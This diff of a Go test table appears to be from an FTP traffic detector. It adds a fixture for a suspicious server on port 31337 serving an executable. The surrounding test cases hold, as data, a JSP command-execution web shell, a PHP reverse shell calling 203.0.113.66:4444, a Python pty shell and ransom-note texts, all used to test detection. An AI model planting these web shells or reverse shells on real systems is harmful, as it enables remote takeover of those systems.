@@ -175,6 +175,11 @@ var toolAttacks = []struct {
 	{"a page of JSP in XML", "no-loot", moves([2]string{"STOR a.jspx", `<jsp:root><jsp:scriptlet>Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));</jsp:scriptlet></jsp:root>`})},
 	{"a page that opens a shell for somebody far away", "no-loot", moves([2]string{"STOR a.php", `<?php $s = fsockopen("203.0.113.66", 4444); $p = proc_open("/bin/sh", array($s, $s, $s), $pipes);`})},
 	{"a terminal for somebody far away", "no-loot", moves([2]string{"STOR a.py", `import socket, pty; s = socket.socket(); pty.spawn("sh")`})},
+	{"a program of a server with the words of intruders, at an odd port", "no-signs-agree", func(f *forge.Capture) {
+		t := dial(f, aClient, aServer+":31337").Say(strings.Replace(hello, "< 220 ", "< 220 w3lc0me ", 1))
+		move(t, 40000, "RETR a.exe", "MZ\x90")
+		t.Say(bye).Peer.Close()
+	}},
 	{"the note of ransomware, with somebody to write to", "no-loot", moves([2]string{"STOR a.hta", "<h1>ALL YOUR FILES ARE ENCRYPTED</h1>To decrypt, contact mallory@a.example and pay."})},
 	{"files that get an ending, and then a note", "no-known-exploits", session1(numberedLines(6, "> RNFR a%[1]d.doc\n< 350 and?\n> RNTO a%[1]d.doc.enc\n< 250 ok\n") + "> STOR RECOVER.txt\n< 150 go on\n< 226 done")},
 	{"the note of ransomware, with a price", "no-loot", moves([2]string{"STOR a.txt", "YOUR FILES ARE ENCRYPTED. The price of the decrypt tool is $980."})},
